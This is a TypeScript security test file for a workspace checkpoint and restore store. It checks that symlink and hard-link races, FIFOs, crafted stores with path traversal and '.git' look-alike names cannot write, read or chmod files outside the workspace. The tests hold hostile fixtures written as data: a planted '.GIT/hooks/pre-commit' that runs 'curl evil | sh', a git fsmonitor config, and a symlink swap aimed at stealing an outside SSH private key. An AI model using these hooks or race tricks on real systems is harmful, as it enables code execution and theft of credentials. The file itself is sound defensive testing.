/**
 * X2 checkpoints attacked (docs/security.md, red-team table): what a malicious workspace, a prompt-injected model or
 * a sandboxed command running beside a restore can do to the store and the folder — on the real file system.
 *
 * - Symlinks: a folder replaced by a link to outside before a restore, and one swapped in WHILE it runs (at the
 *   worst moments: after the restore's own capture, between two writes into the same folder, before a mode change,
 *   before the folder modes are set) — nothing outside the workspace is written, removed or chmod-ed.
 * - A FIFO swapped in for a file (no hang), a file growing while it is read (capped), a device (as root).
 * - Hard links: a restore never writes through one.
 * - `.git` in the spellings case-insensitive and Unicode-folding file systems take for it: never captured.
 * - A crafted store: paths with "..", `.GIT/hooks`, a path under a symlink of the tree, a delta loop, an index row
 *   past its pack's end, a journal moving a tree to another folder — refused cleanly, the folder untouched.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, linkSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { applyTree } from '../../main/checkpoints/apply.js';
import { captureTree } from '../../main/checkpoints/capture.js';
import { appendLog, readLog, type CheckpointRecord } from '../../main/checkpoints/log.js';
import { ObjectIndex, ObjectReader, sha256, type PackWriter } from '../../main/checkpoints/objects.js';
import { isAlwaysSkipped, scanWorkspace } from '../../main/checkpoints/scan.js';
import { CheckpointService } from '../../main/checkpoints/service.js';
import { CheckpointStore, DEFAULT_CHECKPOINT_SETTINGS } from '../../main/checkpoints/store.js';
import { badEntryPath, isDotGit, treeId, treeProblem, type TreeEntry } from '../../main/checkpoints/tree.js';
import { WorkspaceFs } from '../../main/checkpoints/workspace-fs.js';
import { mkfifoSync } from '../support/mkfifo.js';
import { tempDirs } from '../support/temp-dirs.js';

const tmp = tempDirs('cprt');
const write = (root: string, rel: string, text: string) => {
  mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  writeFileSync(path.join(root, rel), text);
};
/** Every name under `dir` with its content or link text (the outside folder must stay exactly like this). */
function listing(dir: string, rel = ''): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(path.join(dir, rel)).sort()) {
    const r = rel ? `${rel}/${name}` : name;
    const st = lstatSync(path.join(dir, r));
    const mode = (st.mode & 0o7777).toString(8);
    if (st.isDirectory()) Object.assign(out, { [r]: `dir ${mode}` }, listing(dir, r));
    else if (st.isSymbolicLink()) out[r] = 'link';
    else out[r] = `${mode} ${readFileSync(path.join(dir, r), 'utf8')}`;
  }
  return out;
}

function setup() {
  const ws = tmp('ws');
  const outside = tmp('outside');
  write(outside, 'secret.txt', 'the person\'s own file\n');
  chmodSync(path.join(outside, 'secret.txt'), 0o600);
  chmodSync(outside, 0o700);
  const store = new CheckpointStore(tmp('home'), { racyMs: 0, onNotice: () => {} });
  return { ws, outside, store };
}

/** The trees and a reader that runs `hook(n)` before its n-th read — where a racing process would strike. */
async function applyWithHook(store: CheckpointStore, ws: string, targetTree: string, hook: (n: number) => void) {
  const current = store.loadTree((await store.snapshot({ sessionKey: 'now', root: ws, label: 'now' })).tree);
  const index = new ObjectIndex(store.packsDir);
  index.refresh();
  const reader = new ObjectReader(index);
  let n = 0;
  try {
    return await applyTree(ws, current, store.loadTree(targetTree), {
      read: (h: string) => {
        hook(++n);
        return reader.read(h);
      },
    });
  } finally {
    reader.close();
  }
}

const swapForLink = (ws: string, rel: string, to: string) => {
  renameSync(path.join(ws, rel), path.join(ws, `${rel}.moved`));
  symlinkSync(to, path.join(ws, rel));
};

describe('a restore and symlinks', () => {
  it('a folder replaced by a link to outside before the restore: its files are put back inside, outside untouched (held before)', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'src/a.txt', 'a\n');
    write(ws, 'src/deep/b.txt', 'b\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    const before = listing(outside);
    rmSync(path.join(ws, 'src'), { recursive: true });
    symlinkSync(outside, path.join(ws, 'src'));
    await store.restore({ sessionKey: 's', id: cp.id, files: true });
    expect(listing(outside)).toEqual(before);
    expect(lstatSync(path.join(ws, 'src')).isDirectory()).toBe(true);
    expect(readFileSync(path.join(ws, 'src/deep/b.txt'), 'utf8')).toBe('b\n');
  });

  it.each([
    ['after the restore captured the folder (before its first write)', 2],
    ['between two writes into the same folder', 3],
  ])('a folder swapped for a link to outside %s: nothing is written outside', async (_when, at) => {
    const { ws, outside, store } = setup();
    write(ws, 'src/a.txt', 'a\n');
    write(ws, 'src/b.txt', 'b\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    write(ws, 'src/a.txt', 'changed a\n');
    write(ws, 'src/b.txt', 'changed b\n');
    const before = listing(outside);
    // Reads 1–2 check the contents (step 1); read 3 is a.txt's write, read 4 b.txt's.
    await applyWithHook(store, ws, cp.tree, (n) => {
      if (n === at) swapForLink(ws, 'src', outside);
    });
    expect(listing(outside)).toEqual(before);
    // The writes went to the real folder (wherever the racer moved it) or to a new one: never through the link.
    const restored = [path.join(ws, 'src/b.txt'), path.join(ws, 'src.moved/b.txt')].filter((p) => existsSync(p) && lstatSync(path.dirname(p)).isDirectory());
    expect(restored.map((p) => readFileSync(p, 'utf8'))).toContain('b\n');
  });

  it('a file swapped for a link to an outside file before its mode is set: the outside file keeps its mode', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'a.txt', 'a\n');
    write(ws, 'run.sh', 'echo hi\n');
    chmodSync(path.join(ws, 'run.sh'), 0o755);
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    write(ws, 'a.txt', 'changed\n');
    chmodSync(path.join(ws, 'run.sh'), 0o600);
    await applyWithHook(store, ws, cp.tree, (n) => {
      if (n === 2) {
        rmSync(path.join(ws, 'run.sh'));
        symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'run.sh'));
      }
    });
    expect(statSync(path.join(outside, 'secret.txt')).mode & 0o777).toBe(0o600);
    expect(lstatSync(path.join(ws, 'run.sh')).isFile()).toBe(true);
    expect(readFileSync(path.join(ws, 'run.sh'), 'utf8')).toBe('echo hi\n');
  });

  it('a folder swapped for a link to outside before folder modes are set: the outside folder keeps its mode', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'pub/a.txt', 'a\n');
    chmodSync(path.join(ws, 'pub'), 0o755);
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    write(ws, 'pub/a.txt', 'changed\n');
    chmodSync(path.join(ws, 'pub'), 0o700);
    // Read 2 is a.txt's write (into the folder, opened just before it), the last thing before the folder modes.
    const outsideMode = statSync(outside).mode & 0o777;
    await applyWithHook(store, ws, cp.tree, (n) => {
      if (n === 2) {
        renameSync(path.join(ws, 'pub'), path.join(ws, 'pub.moved'));
        symlinkSync(outside, path.join(ws, 'pub'));
      }
    });
    expect(statSync(outside).mode & 0o777).toBe(outsideMode);
  });

  it('the diff of a file swapped for a link to an outside file since the preview shows nothing of that file', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'notes.txt', 'v1\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    write(ws, 'notes.txt', 'v2\n');
    const service = new CheckpointService({ store, sessions: undefined as never });
    const real = store.preview.bind(store);
    // The swap lands between the preview the diff is built on and the read of the current file.
    store.preview = async (...args) => {
      const p = await real(...args);
      rmSync(path.join(ws, 'notes.txt'));
      symlinkSync(path.join(outside, 'secret.txt'), path.join(ws, 'notes.txt'));
      return p;
    };
    const diff = await service.diff('s', cp.id, 'notes.txt');
    expect(JSON.stringify(diff)).not.toContain('own file');
    expect(diff.restored).toBe('v1\n');
  });
});

describe('a restore and hard links', () => {
  it('never writes through a hard link to a file outside the workspace (held before: temporary file renamed over)', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'h.txt', 'recorded\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
    rmSync(path.join(ws, 'h.txt'));
    linkSync(path.join(outside, 'secret.txt'), path.join(ws, 'h.txt'));
    await store.restore({ sessionKey: 's', id: cp.id, files: true });
    expect(readFileSync(path.join(outside, 'secret.txt'), 'utf8')).toBe('the person\'s own file\n');
    expect(readFileSync(path.join(ws, 'h.txt'), 'utf8')).toBe('recorded\n');
    expect(statSync(path.join(ws, 'h.txt')).nlink).toBe(1);
  });
});

/**
 * A snapshot with `hook(n)` run after its n-th file read (before the next one): the moment between the scan that
 * listed a file and the read of it, where a racing process swaps things. Contents stored go to `stored`.
 */
async function captureWithHook(ws: string, maxFileBytes: number, hook: (n: number) => void) {
  let n = 0;
  const stored: Buffer[] = [];
  const writer = { add: (_h: string, data: Uint8Array) => stored.push(Buffer.from(data)) } as unknown as PackWriter;
  const index = { has: () => (hook(++n), false) } as unknown as ObjectIndex;
  const t = Date.now();
  const { tree, stats } = await captureTree(ws, { limits: { maxFileBytes, maxTotalBytes: 1e12 }, index, writer, racyMs: 0 });
  return { tree, stats, stored, ms: Date.now() - t };
}

describe('special files while snapshotting', () => {
  it('a file swapped for a FIFO between the scan and its read: skipped at once, the snapshot never blocks', async () => {
    const ws = tmp('fifo');
    write(ws, 'a.txt', 'a\n');
    write(ws, 'b.txt', 'b\n');
    let unblocker: ReturnType<typeof spawn> | undefined;
    try {
      const { tree, ms } = await captureWithHook(ws, 1024 * 1024, (n) => {
        if (n !== 1) return;
        rmSync(path.join(ws, 'b.txt'));
        mkfifoSync(path.join(ws, 'b.txt'));
        // A blocking open would hang this process for good: a writer opens the pipe after 2 s to end such a run.
        unblocker = spawn('sh', ['-c', 'sleep 2; echo x > b.txt'], { cwd: ws, stdio: 'ignore', detached: true });
      });
      expect(ms).toBeLessThan(1500);
      expect(tree.entries.map((e) => e.p)).toEqual(['a.txt']);
      expect(tree.skipped).toEqual([{ p: 'b.txt', reason: 'special' }]);
    } finally {
      if (unblocker?.pid) process.kill(-unblocker.pid, 'SIGKILL');
    }
  });

  it('a file that grew past the per-file cap since the scan: skipped as too large, never read past the cap', async () => {
    const ws = tmp('grow');
    write(ws, 'a.txt', 'a\n');
    write(ws, 'big.log', 'x\n');
    const cap = 1024 * 1024;
    const { tree, stats } = await captureWithHook(ws, cap, (n) => {
      // `yes >> big.log` in the background: 4 MB more by the time it is read.
      if (n === 1) writeFileSync(path.join(ws, 'big.log'), Buffer.alloc(4 * cap, 'y'), { flag: 'a' });
    });
    expect(stats.bytesRead).toBeLessThanOrEqual(cap + 64 * 1024);
    expect(tree.entries.map((e) => e.p)).toEqual(['a.txt']);
    expect(tree.skipped).toEqual([{ p: 'big.log', reason: 'too-large' }]);
  });

  it('a folder swapped for a link to outside between the scan and the read of a file in it: nothing outside is stored', async () => {
    const ws = tmp('steal');
    const outside = tmp('outside');
    write(outside, 'id_rsa', 'PRIVATE KEY of the person\n');
    write(ws, 'a.txt', 'a\n');
    write(ws, 'keys/id_rsa', 'decoy planted by the model\n');
    const { tree, stored } = await captureWithHook(ws, 1024 * 1024, (n) => {
      if (n === 1) swapForLink(ws, 'keys', outside);
    });
    // Stored, it would come back into the workspace on a restore (or show in a diff) for the model to read.
    expect(Buffer.concat(stored).toString()).not.toContain('PRIVATE KEY');
    expect(tree.entries.map((e) => e.h)).not.toContain(sha256(readFileSync(path.join(outside, 'id_rsa'))));
  });

  it('a FIFO in the workspace is listed as skipped, and the snapshot ends (held before: the scan lstat-checks)', async () => {
    const { ws, store } = setup();
    write(ws, 'a.txt', 'a\n');
    mkfifoSync(path.join(ws, 'pipe'));
    const rec = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    expect(rec.skippedSample).toEqual(['pipe (special)']);
  });

  it.skipIf(process.getuid?.() !== 0)('as root: a character device (a copy of /dev/zero) is skipped, never read (held before)', async () => {
    const { ws, store } = setup();
    const made = spawnSync('mknod', [path.join(ws, 'zero'), 'c', '1', '5']);
    if (made.status !== 0) return; // no CAP_MKNOD in this container
    const rec = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    expect(rec.skippedSample).toEqual(['zero (special)']);
  });
});

describe('the safe file layer keeps a snapshot whole', () => {
  it('a file deeper than PATH_MAX is captured and restored; a name that is not UTF-8 is listed as skipped', async () => {
    const { ws, store } = setup();
    write(ws, 'ok.txt', 'ok\n');
    // 40 levels of 200-character folders: a full path of ~8 000 bytes (PATH_MAX is 4 096). GNU `mkdir -p` makes it one
    // level at a time (chdir into each); the shell then walks down with its builtin cd. One process each, not one per
    // level: 40 mkdir forks took ~6 s on a loaded 2-core machine and timed this test out.
    const deepDir = Array(40).fill('a'.repeat(200)).join('/');
    const sh = (script: string) => spawnSync('bash', ['-c', script], { cwd: ws, encoding: 'utf8' });
    const cdDeep = `for i in {1..40}; do cd ${'a'.repeat(200)} || exit 1; done`; // one chdir per level
    try {
      expect(sh(`mkdir -p '${deepDir}' && ${cdDeep} && echo deep > deep.txt`).status).toBe(0);
      expect(sh(`touch "$(printf 'bad\\377name')"`).status).toBe(0);
      const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'before' });
      expect(store.loadTree(cp.tree).entries.map((e) => e.p)).toContain(`${deepDir}/deep.txt`);
      expect(cp.skippedSample).toEqual(['bad\ufffdname (unreadable)']);
      expect(sh(`${cdDeep} && rm deep.txt`).status).toBe(0);
      await store.restore({ sessionKey: 's', id: cp.id, files: true });
      expect(sh(`${cdDeep} && cat deep.txt`).stdout).toBe('deep\n');
    } finally {
      sh('cd / && rm -rf "$OLDPWD"'); // rmSync cannot remove a tree deeper than PATH_MAX
    }
  });

  it('a folder listed after a wide subfolder (more folders than it keeps open): every file is still captured', async () => {
    // Regression guard of workspace-fs.ts: a folder's descriptor closed to make room (and its number reused) must
    // not make the rest of that folder's listing vanish — a later restore to that snapshot would delete those files.
    const ws = tmp('wide');
    for (let i = 0; i < 200; i++) mkdirSync(path.join(ws, `p/big/d${i}`), { recursive: true });
    for (let i = 0; i < 50; i++) write(ws, `p/f${i}.txt`, 'x');
    const scan = await scanWorkspace(ws, { maxFileBytes: 1e9, maxTotalBytes: 1e12 });
    expect(scan.entries.filter((e) => e.k === 'f')).toHaveLength(50);
    expect(scan.skipped).toEqual([]);
  });
});

describe('.git in every spelling', () => {
  it.each([
    ['.git', true],
    ['.GIT', true],
    ['.Git.', true],
    ['.git ', true],
    ['.g\u200cit', true],
    ['\ufeff.git', true],
    ['\u200e.GIT', true],
    ['x.git', false],
    ['.gitignore', false],
    ['.github', false],
    ['git', false],
  ])('isDotGit(%j) is %s', (name, yes) => {
    expect(isDotGit(name)).toBe(yes);
    expect(isAlwaysSkipped(name)).toBe(yes);
  });

  it('a snapshot captures no .GIT or .g\u200cit folder (on macOS and Windows they are .git)', async () => {
    const { ws, store } = setup();
    write(ws, 'a.txt', 'a\n');
    write(ws, '.GIT/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
    write(ws, '.g\u200cit/config', '[core]\n\tfsmonitor = evil\n');
    const rec = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    expect(store.loadTree(rec.tree).entries.map((e) => e.p)).toEqual(['a.txt']);
  });
});

describe('a crafted store', () => {
  const f = (p: string, m = 0o644): TreeEntry => ({ p, k: 'f', m, h: 'a'.repeat(64) });
  const d = (p: string): TreeEntry => ({ p, k: 'd', m: 0o755 });
  it.each<[string, TreeEntry[], RegExp | undefined]>([
    ['a plain tree', [d('src'), f('src/a')], undefined],
    ['"..": outside the workspace', [f('../outside')], /path/],
    ['".." inside a path', [d('a'), f('a/../../x')], /path/],
    ['an absolute path', [f('/etc/passwd')], /path/],
    ['an empty part', [f('a//b')], /path/],
    ['a NUL', [f('a\u0000b')], /path/],
    ['.git at any depth', [d('sub'), d('sub/.git'), f('sub/.git/config')], /\.git/],
    ['.GIT/hooks', [d('.GIT'), d('.GIT/hooks'), f('.GIT/hooks/pre-commit', 0o755)], /\.git/],
    ['a file under a symlink of the tree', [{ p: 'a', k: 'l', m: 0o777, t: '/etc' }, f('a/passwd')], /outside a folder/],
    ['a file whose folder is missing', [f('x/y')], /outside a folder/],
    ['out of order', [f('b'), f('a')], /order/],
    ['a duplicate path', [f('a'), f('a')], /order/],
    ['a setuid bit is a mode, anything above is not', [f('a', 0o17777)], /mode/],
    ['a file without a hash', [{ p: 'a', k: 'f', m: 0o644 }], /hash/],
    ['an unknown kind', [{ p: 'a', k: 'x' as 'f', m: 0o644 }], /kind/],
  ])('%s', (_name, entries, problem) => {
    const p = treeProblem({ entries });
    if (problem) expect(p).toMatch(problem);
    else expect(p).toBeUndefined();
  });

  it('badEntryPath accepts ordinary names', () => {
    for (const p of ['a', 'a/b.txt', '.gitignore', 'node_modules/x', 'weird name ü/…']) expect(badEntryPath(p)).toBeUndefined();
  });

  /** Stores `tree` (whole, or a delta naming `base`) as a tree file and points checkpoint `cp` at it. */
  function plant(store: CheckpointStore, cp: CheckpointRecord, body: object): string {
    const text = JSON.stringify(body);
    const id = treeId(text);
    writeFileSync(path.join(store.treesDir, `${id}.json.gz`), gzipSync(text));
    const log = path.join(store.sessionsDir, readdirSync(store.sessionsDir).find((n) => n.endsWith('.jsonl'))!);
    const records = readLog(log).map((r) => (r.type === 'checkpoint' && r.id === cp.id ? { ...r, tree: id } : r));
    rmSync(log);
    appendLog(log, records);
    return id;
  }

  it.each([
    ['a tree writing "../escaped.txt"', (ws: string) => ({ v: 1, root: ws, takenAt: 0, entries: [f('../escaped.txt')], skipped: [] }), /damaged tree/],
    ['a tree planting .GIT/hooks/pre-commit', (ws: string) => ({ v: 1, root: ws, takenAt: 0, entries: [d('.GIT'), d('.GIT/hooks'), f('.GIT/hooks/pre-commit', 0o755)], skipped: [] }), /\.git path/],
    ['a tree of another folder', (_ws: string) => ({ v: 1, root: '/', takenAt: 0, entries: [], skipped: [] }), /another folder/],
  ])('%s: refused, nothing written', async (_name, body, message) => {
    const { ws, outside, store } = setup();
    write(ws, 'a.txt', 'a\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    const before = { ws: listing(ws), outside: listing(outside), parent: readdirSync(path.dirname(ws)).filter((n) => n === 'escaped.txt') };
    plant(store, cp, body(ws));
    await expect(store.restore({ sessionKey: 's', id: cp.id, files: true })).rejects.toThrow(message);
    expect(listing(ws)).toEqual(before.ws);
    expect(listing(outside)).toEqual(before.outside);
    expect(readdirSync(path.dirname(ws)).filter((n) => n === 'escaped.txt')).toEqual(before.parent);
  });

  it('two deltas based on each other (a loop): refused at once, no stack overflow', async () => {
    const { ws, store } = setup();
    write(ws, 'a.txt', 'a\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    // A names B and B names A (ids are file names here: a loop needs no hash to match).
    const a = 'c'.repeat(64);
    const b = 'd'.repeat(64);
    writeFileSync(path.join(store.treesDir, `${a}.json.gz`), gzipSync(JSON.stringify({ v: 1, base: b, root: ws, takenAt: 0, set: [], del: [], skipped: [] })));
    writeFileSync(path.join(store.treesDir, `${b}.json.gz`), gzipSync(JSON.stringify({ v: 1, base: a, root: ws, takenAt: 0, set: [], del: [], skipped: [] })));
    const log = path.join(store.sessionsDir, readdirSync(store.sessionsDir).find((n) => n.endsWith('.jsonl'))!);
    const records = readLog(log).map((r) => (r.type === 'checkpoint' && r.id === cp.id ? { ...r, tree: a } : r));
    rmSync(log);
    appendLog(log, records);
    await expect(store.restore({ sessionKey: 's', id: cp.id, files: true })).rejects.toThrow(/a delta on a delta/);
    expect(() => store.loadTree('../../../etc/passwd')).toThrow(/cannot exist/);
  });

  it('an index row claiming more than its pack holds makes the content missing (no huge allocation, no other bytes)', async () => {
    const { ws, store } = setup();
    write(ws, 'a.txt', 'a\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    write(ws, 'a.txt', 'changed\n');
    const idx = readdirSync(store.packsDir).find((n) => n.endsWith('.idx'))!;
    const rows = JSON.parse(readFileSync(path.join(store.packsDir, idx), 'utf8')) as [string, number, number][];
    writeFileSync(path.join(store.packsDir, idx), JSON.stringify(rows.map(([h, o]) => [h, o, 2 ** 40])));
    await expect(new CheckpointStore(store.dir, { onNotice: () => {} }).restore({ sessionKey: 's', id: cp.id, files: true })).rejects.toThrow(/missing the content/);
    expect(readFileSync(path.join(ws, 'a.txt'), 'utf8')).toBe('changed\n');
  });

  it('a journal that would roll a tree forward into another folder is dropped, that folder untouched', async () => {
    const { ws, outside, store } = setup();
    write(ws, 'a.txt', 'a\n');
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    const before = listing(outside);
    const record = { type: 'restore', id: 'r1', at: 0, target: cp.id, before: cp.id, files: true, summary: { modified: 0, created: 0, deleted: 0 } };
    writeFileSync(path.join(store.dir, 'journal.json'), JSON.stringify({ op: 'restore', sessionKey: 's', root: outside, startedAt: 0, tree: cp.tree, record }));
    const notices: string[] = [];
    await new CheckpointStore(store.dir, { onNotice: (l) => notices.push(l) }).recoverNow();
    expect(listing(outside)).toEqual(before);
    expect(notices.join('\n')).toMatch(/another folder/);
    expect(existsSync(path.join(store.dir, 'journal.json'))).toBe(false);
  });
});

describe('what a restore hands out', () => {
  it('never a setuid or setgid program', async () => {
    const { ws, store } = setup();
    write(ws, 'tool', '#!/bin/sh\n');
    chmodSync(path.join(ws, 'tool'), 0o6755);
    const cp = await store.snapshot({ sessionKey: 's', root: ws, label: 'x' });
    rmSync(path.join(ws, 'tool'));
    await store.restore({ sessionKey: 's', id: cp.id, files: true });
    expect(statSync(path.join(ws, 'tool')).mode & 0o7777).toBe(0o755);
  });
});
